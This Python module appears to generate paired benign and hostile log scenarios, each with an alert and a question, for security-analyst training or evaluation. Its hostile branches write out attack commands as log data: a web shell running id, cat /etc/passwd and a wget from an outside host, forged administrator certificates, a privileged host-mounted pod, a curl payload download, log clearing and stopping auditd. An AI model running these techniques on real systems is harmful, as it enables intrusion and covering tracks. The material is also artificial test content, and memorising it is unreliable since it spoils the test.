"""What must be renewed in time: certificates, secrets, nodes, clocks."""

# ruff: noqa: E501
from ..shapes.cloud import cluster_days, kubernetes
from ..shapes.network import access, visitors
from ..shapes.unix import audit, audit_days, ssh_in, sudo, syslog, unix_days
from ..shapes.windows import SECURITY, Windows, office
from ..stage import Stage, pair


@pair("certificates", "nginx", "the challenge's folder holds a script that answers commands")
def acme_challenges(stage: Stage, hostile: bool) -> None:
    visitors(stage, "access.log", days=4, requests=230)
    unix_days(stage, "syslog", ["www1"], days=4, events=70)
    agent = "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)"
    validators = [stage.outside() for _ in range(5)]
    for day in (1, 3):
        token = stage.text(43, "abcdefghijkmnopqrstuvwxyzABCDEFG0123456789_-")
        for number, validator in enumerate(validators):
            access(stage, "access.log", stage.at(days=day, hours=3, minutes=17, seconds=number), validator, f"GET /.well-known/acme-challenge/{token}", 200, agent=agent, size=87)  # fmt: skip
        syslog(stage, "syslog", stage.at(days=day, hours=3, minutes=16), "www1", "systemd[1]", "Starting certbot.service - Certbot...")  # fmt: skip
        syslog(stage, "syslog", stage.at(days=day, hours=3, minutes=18), "www1", "certbot[40122]", f"Congratulations, all renewals succeeded: /etc/letsencrypt/live/www.{stage.domain}/fullchain.pem (success)")  # fmt: skip
        syslog(stage, "syslog", stage.at(days=day, hours=3, minutes=18), "www1", "systemd[1]", "Reloaded nginx.service - A high performance web server.")  # fmt: skip
    if hostile:
        thief = stage.outside()
        for number, word in enumerate(
            ("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http://" + stage.outside() + "/x")
        ):
            access(stage, "access.log", stage.at(days=3, hours=3, minutes=40, seconds=9 * number), thief, f"GET /.well-known/acme-challenge/upd.php?c={word}", 200, size=310)  # fmt: skip
    stage.alert = {
        "title": "Requests for hidden folder from several foreign addresses",
        "host": "www1",
        "path": "/.well-known/acme-challenge/",
        "time": stage.at(days=3, hours=3, minutes=17).isoformat(),
    }
    stage.asked = "What were these night-time requests?"


@pair(
    "certificates", "windows", "a person asks for a certificate in the name of the administrator, and it logs on as him"
)
def autoenrolment(stage: Stage, hostile: bool) -> None:
    log = Windows(stage, "ca.json", "nested")
    office(log, ["CA1", "DC1", "WS11"], days=4, events=150)
    for number in range(30):
        host = f"WS{10 + number}"
        when = stage.at(days=number % 4, hours=8, minutes=number)
        attributes = f"CertificateTemplate:Workstation ccm:{host}.{stage.domain}"
        log.event(when, "CA1", SECURITY, 4886, RequestId=str(9100 + number), Requester=f"{log.netbios}\\{host}$", Attributes=attributes)  # fmt: skip
        log.event(when, "CA1", SECURITY, 4887, RequestId=str(9100 + number), Requester=f"{log.netbios}\\{host}$", Attributes=attributes, Disposition="3", SKI=stage.text(40), Subject=f"CN={host}.{stage.domain}")  # fmt: skip
    at = {"days": 3, "hours": 11}
    if hostile:
        thief, desk = stage.people[3], stage.inside(8, 33)
        attributes = f"CertificateTemplate:WebPortal SAN:upn=administrator@{stage.domain}"
        log.event(stage.at(**at), "CA1", SECURITY, 4886, RequestId="9188", Requester=f"{log.netbios}\\{thief}", Attributes=attributes)  # fmt: skip
        log.event(stage.at(**at, seconds=1), "CA1", SECURITY, 4887, RequestId="9188", Requester=f"{log.netbios}\\{thief}", Attributes=attributes, Disposition="3", SKI=stage.text(40), Subject=f"CN={thief}")  # fmt: skip
        log.event(stage.at(**at, minutes=3), "DC1", SECURITY, 4768, TargetUserName="administrator", TargetDomainName=log.netbios, ServiceName="krbtgt", TicketOptions="0x40810010", Status="0x0", TicketEncryptionType="0x17", PreAuthType="16", IpAddress=f"::ffff:{desk}", IpPort="49812", CertIssuerName="CA1", CertSerialNumber=stage.text(32))  # fmt: skip
        log.logon(stage.at(**at, minutes=4), "DC1", "administrator", desk)
    else:
        log.event(stage.at(**at), "CA1", SECURITY, 4886, RequestId="9188", Requester=f"{log.netbios}\\WEB2$", Attributes=f"CertificateTemplate:WebServer ccm:WEB2.{stage.domain}")  # fmt: skip
        log.event(stage.at(**at, seconds=1), "CA1", SECURITY, 4887, RequestId="9188", Requester=f"{log.netbios}\\WEB2$", Attributes=f"CertificateTemplate:WebServer ccm:WEB2.{stage.domain}", Disposition="3", SKI=stage.text(40), Subject=f"CN=WEB2.{stage.domain}")  # fmt: skip
    stage.alert = {
        "title": "Unusual certificate issued",
        "host": "CA1",
        "request": "9188",
        "time": stage.at(**at).isoformat(),
    }
    stage.asked = "Was certificate 9188 obtained by an attacker?"


@pair(
    "rotation",
    "kubernetes",
    "the operator's token is used from outside the cluster, by hand, and reads what it never read",
)
def secrets_operator(stage: Stage, hostile: bool) -> None:
    file = "audit.log"
    cluster_days(stage, file, days=3, events=120)
    who = "system:serviceaccount:external-secrets:external-secrets"
    agent = "external-secrets/v0.9.13 (linux/amd64) kubernetes/$Format"
    spaces = ("shop", "billing", "search", "mailer")
    for hour in range(0, 70, 3):
        for number, space in enumerate(spaces):
            at = {"hours": hour, "minutes": 5, "seconds": number}
            kubernetes(stage, file, stage.at(**at), who, "get", "secrets", namespace=space, name=f"{space}-db", address=stage.inside(96, 21), groups=("system:serviceaccounts",), agent=agent)  # fmt: skip
            kubernetes(stage, file, stage.at(**at), who, "update", "secrets", namespace=space, name=f"{space}-db", address=stage.inside(96, 21), groups=("system:serviceaccounts",), agent=agent)  # fmt: skip
    if hostile:
        there = stage.outside()
        for number, space in enumerate((*spaces, "kube-system", "monitoring", "payroll")):
            kubernetes(stage, file, stage.at(hours=65, minutes=31, seconds=3 * number), who, "list", "secrets", namespace=space, address=there, groups=("system:serviceaccounts",), agent="curl/8.5.0")  # fmt: skip
    stage.alert = {
        "title": "Service account reads many secrets",
        "user": who,
        "time": stage.at(hours=65, minutes=31).isoformat() if hostile else stage.at(hours=66, minutes=5).isoformat(),
    }
    stage.asked = "Did somebody steal secrets from the cluster?"


@pair(
    "cluster upkeep",
    "kubernetes",
    "what was drained does not come back, and a pod with the node's disk is started by a default account",
)
def node_drain(stage: Stage, hostile: bool) -> None:
    file = "kube-audit.jsonl"
    cluster_days(stage, file, days=3, events=140)
    who, desk = f"oidc:{stage.people[0]}@{stage.domain}", stage.inside(8, 12)
    groups = ("platform-admins", "system:authenticated")
    for step, node in enumerate(("node-a1", "node-a2", "node-a3")):
        at = {"days": 2, "hours": 13 + step}
        kubernetes(stage, file, stage.at(**at), who, "patch", "nodes", name=node, address=desk, groups=groups, request={"spec": {"unschedulable": True}})  # fmt: skip
        for number in range(9):
            kubernetes(stage, file, stage.at(**at, minutes=1, seconds=number * 3), who, "create", "pods", sub="eviction", namespace=("shop", "search", "mailer")[number % 3], name=f"web-{stage.text(9)}", address=desk, groups=groups, code=201)  # fmt: skip
        if not hostile or step < 2:
            kubernetes(stage, file, stage.at(**at, minutes=25), who, "patch", "nodes", name=node, address=desk, groups=groups, request={"spec": {"unschedulable": None}})  # fmt: skip
    if hostile:
        spec = {"kind": "Pod", "metadata": {"name": "debug-x"}, "spec": {"hostPID": True, "nodeName": "node-a3", "tolerations": [{"operator": "Exists"}], "containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True}, "volumeMounts": [{"name": "r", "mountPath": "/host"}]}], "volumes": [{"name": "r", "hostPath": {"path": "/"}}]}}  # fmt: skip
        there = stage.outside()
        kubernetes(stage, file, stage.at(days=2, hours=15, minutes=30), "system:serviceaccount:default:default", "create", "pods", name="debug-x", address=there, groups=("system:serviceaccounts",), code=201, request=spec)  # fmt: skip
        kubernetes(stage, file, stage.at(days=2, hours=15, minutes=32), "system:serviceaccount:default:default", "create", "pods", sub="exec", name="debug-x", address=there, groups=("system:serviceaccounts",), code=101)  # fmt: skip
    stage.alert = {"title": "Mass eviction of pods", "user": who, "time": stage.at(days=2, hours=15).isoformat()}
    stage.asked = "Is somebody taking our cluster down?"


@pair("clocks", "windows", "a person sets the clock back by hand, and then clears the log")
def clock_set_by_service(stage: Stage, hostile: bool) -> None:
    log = Windows(stage, "security.json", "nxlog")
    office(log, ["HV1", "APP3", "APP4"], days=5, events=170)
    for day in range(5):
        when = stage.at(days=day, hours=5, minutes=1)
        log.event(when, "APP3", SECURITY, 4616, SubjectUserName="LOCAL SERVICE", SubjectDomainName="NT AUTHORITY", PreviousTime=when.strftime("%Y-%m-%dT%H:%M:%S.1Z"), NewTime=when.strftime("%Y-%m-%dT%H:%M:%S.9Z"), ProcessId="0x4f8", ProcessName="C:\\Windows\\System32\\svchost.exe")  # fmt: skip
    when = stage.at(days=4, hours=14, minutes=20)
    admin = f"adm-{stage.people[0]}"
    if hostile:
        log.event(when, "APP3", SECURITY, 4616, SubjectUserName=admin, SubjectDomainName=log.netbios, PreviousTime=when.strftime("%Y-%m-%dT%H:%M:%S.1Z"), NewTime=stage.at(days=1, hours=3).strftime("%Y-%m-%dT%H:%M:%S.0Z"), ProcessId="0x1a44", ProcessName="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")  # fmt: skip
        log.start(stage.at(days=4, hours=14, minutes=22), "APP3", f"{log.netbios}\\{admin}", "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")  # fmt: skip
        log.event(stage.at(days=4, hours=14, minutes=22, seconds=2), "APP3", "Microsoft-Windows-Eventlog", 1102, SubjectUserName=admin, SubjectDomainName=log.netbios)  # fmt: skip
    else:
        log.event(when, "APP3", SECURITY, 4616, SubjectUserName="LOCAL SERVICE", SubjectDomainName="NT AUTHORITY", PreviousTime=stage.at(days=4, hours=11).strftime("%Y-%m-%dT%H:%M:%S.1Z"), NewTime=when.strftime("%Y-%m-%dT%H:%M:%S.0Z"), ProcessId="0x4f8", ProcessName="C:\\Windows\\System32\\svchost.exe")  # fmt: skip
    stage.alert = {"title": "System time changed by hours", "host": "APP3", "event_id": 4616, "time": when.isoformat()}
    stage.asked = "Did an intruder tamper with the clock?"


@pair("clocks", "linux", "the web server's account turns the clock's service off and points it elsewhere")
def new_time_server(stage: Stage, hostile: bool) -> None:
    hosts, file = ["app-1", "app-2", "app-3"], "syslog"
    unix_days(stage, file, hosts, days=4, events=130)
    audit_days(stage, "audit.log", days=4, events=30)
    admin, desk = stage.people[0], stage.inside(8, 9)
    for number, host in enumerate(hosts):
        at = {"days": 3, "hours": 10, "minutes": number * 6}
        ssh_in(stage, file, stage.at(**at), host, admin, desk)
        sudo(
            stage,
            file,
            stage.at(**at, seconds=20),
            host,
            admin,
            "/usr/bin/install -m 644 chrony.conf /etc/chrony/chrony.conf",
        )
        sudo(stage, file, stage.at(**at, seconds=40), host, admin, "/usr/bin/systemctl restart chrony")
        syslog(stage, file, stage.at(**at, seconds=42), host, "chronyd[2218]", "Selected source 10.0.0.124")
        syslog(stage, file, stage.at(**at, seconds=44), host, "chronyd[2218]", "System clock wrong by 3.214511 seconds, adjustment started")  # fmt: skip
    if hostile:
        shell = audit(stage, "audit.log", stage.at(days=3, hours=22), "/usr/bin/dash", ("sh", "-c", "id; sudo -l"), uid=33, parent=911)  # fmt: skip
        audit(stage, "audit.log", stage.at(days=3, hours=22, minutes=1), "/usr/bin/curl", ("curl", "-so", "/tmp/.t", f"http://{stage.outside()}/t"), uid=33, parent=shell)  # fmt: skip
        audit(stage, "audit.log", stage.at(days=3, hours=22, minutes=2), "/tmp/.t", ("/tmp/.t", "--clock"), uid=33, parent=shell)  # fmt: skip
        audit(stage, "audit.log", stage.at(days=3, hours=22, minutes=3), "/usr/bin/systemctl", ("systemctl", "stop", "chrony", "auditd"), uid=0, login=33, parent=shell)  # fmt: skip
    stage.alert = {
        "title": "Time service reconfigured",
        "host": "app-3",
        "time": stage.at(days=3, hours=22).isoformat()
        if hostile
        else stage.at(days=3, hours=10, minutes=12).isoformat(),
    }
    stage.asked = "Is the change of the time source part of an attack?"
